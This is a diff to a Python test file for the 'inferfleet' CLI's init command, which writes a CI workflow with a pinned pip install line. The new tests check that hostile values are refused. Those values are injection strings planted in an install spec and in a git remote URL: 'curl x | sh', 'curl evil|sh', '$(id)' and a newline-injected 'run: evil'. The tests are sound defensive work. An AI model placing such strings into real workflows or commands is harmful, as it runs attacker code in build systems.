@@ -80,7 +80,9 @@ def test_init_writes_a_ci_workflow_that_runs_check_strict(
     steps = job["steps"]
     assert steps[0]["uses"].startswith("actions/checkout@")
     runs = [step["run"] for step in steps if "run" in step]
-    assert f'python -m pip install "inferfleet=={__version__}"' in runs  # pinned (L-42)
+    # This venv runs a checkout without a remote: CI cannot reach it, so the line
+    # is the index form, pinned (L-42), and init says so.
+    assert f'python -m pip install "inferfleet=={__version__}"' in runs
     (check,) = [shlex.split(run) for run in runs if run.startswith("inferfleet ")]
     assert check == ["inferfleet", "check", "--strict", "fleet.yaml"]
     assert run_command(cli, check, repo, monkeypatch) == 0
@@ -145,3 +147,84 @@ def test_init_refuses_when_a_file_is_in_the_way(cli: Any, tmp_path: Path) -> Non
     refused = cli("init", str(repo), "--force")
     assert refused.code == 2 and "it is a directory" in refused.stderr
     assert sorted(p.name for p in repo.iterdir()) == ["fleet.yaml"]
+
+
+def test_init_pins_the_ci_install_to_what_was_installed(cli: Any, tmp_path: Path) -> None:
+    result = cli("init", str(tmp_path / "a"))
+    assert result.code == 0 and "CI cannot reach" in result.stderr and "--install" in result.stderr
+    spec = "inferfleet @ git+https://git.example/ops/inferfleet@" + "a" * 40
+    result = cli("init", str(tmp_path / "b"), "--install", spec)
+    assert result.code == 0, result.stderr
+    assert "CI cannot reach" not in result.stderr
+    workflow = yaml.safe_load((tmp_path / "b" / WORKFLOW).read_text())
+    runs = [step["run"] for step in next(iter(workflow["jobs"].values()))["steps"] if "run" in step]
+    assert f'python -m pip install "{spec}"' in runs
+
+
+@pytest.mark.parametrize(
+    "spec", ['inferfleet" && curl x | sh #', "inferfleet\nrun: evil", "x" * 600, ""]
+)
+def test_a_hostile_install_spec_is_refused_and_nothing_written(
+    cli: Any, tmp_path: Path, spec: str
+) -> None:
+    result = cli("init", str(tmp_path / "r"), "--install", spec)
+    assert result.code == 2 and "--install" in result.stderr and "Traceback" not in result.stderr
+    assert not (tmp_path / "r").exists()
+
+
+def _git(repo: Path, *args: str) -> str:
+    import subprocess
+
+    done = subprocess.run(["git", "-C", str(repo), *args], capture_output=True, text=True)
+    assert done.returncode == 0, done.stderr
+    return done.stdout.strip()
+
+
+def test_where_an_install_came_from(tmp_path: Path) -> None:
+    import json as _json
+
+    from inferfleet.origin import from_direct_url
+
+    sha = "b" * 40
+    git = {
+        "url": "https://git.example/ops/inferfleet.git",
+        "vcs_info": {"vcs": "git", "commit_id": sha},
+    }
+    assert (
+        from_direct_url(_json.dumps(git)).spec
+        == f"inferfleet @ git+https://git.example/ops/inferfleet.git@{sha}"
+    )
+    # A checkout: its remote at its HEAD; scp-like remotes become ssh:// URLs pip takes.
+    repo = tmp_path / "checkout"
+    repo.mkdir()
+    _git(repo, "init", "-q")
+    _git(
+        repo,
+        "-c",
+        "user.name=t",
+        "-c",
+        "user.email=t@t",
+        "commit",
+        "-q",
+        "--allow-empty",
+        "-m",
+        "x",
+    )
+    head = _git(repo, "rev-parse", "HEAD")
+    local = {"url": repo.as_uri(), "dir_info": {"editable": True}}
+    assert not from_direct_url(_json.dumps(local)).reachable  # no remote: CI cannot clone it
+    _git(repo, "remote", "add", "origin", "git@git.example:ops/inferfleet.git")
+    found = from_direct_url(_json.dumps(local))
+    assert (
+        found.reachable
+        and found.spec == f"inferfleet @ git+ssh://git@git.example/ops/inferfleet.git@{head}"
+    )
+    # Hostile or private: never written into a workflow.
+    _git(repo, "remote", "set-url", "origin", "https://user:token@git.example/x.git")
+    assert not from_direct_url(_json.dumps(local)).reachable
+    _git(repo, "remote", "set-url", "origin", 'https://git.example/x"; curl evil|sh; ".git')
+    assert not from_direct_url(_json.dumps(local)).reachable
+    assert not from_direct_url(_json.dumps({**git, "url": 'https://x/"$(id)"'})).reachable
+    assert not from_direct_url("{not json").reachable
+    wheel = {"url": "file:///tmp/inferfleet-0.1.0-py3-none-any.whl", "archive_info": {}}
+    assert not from_direct_url(_json.dumps(wheel)).reachable
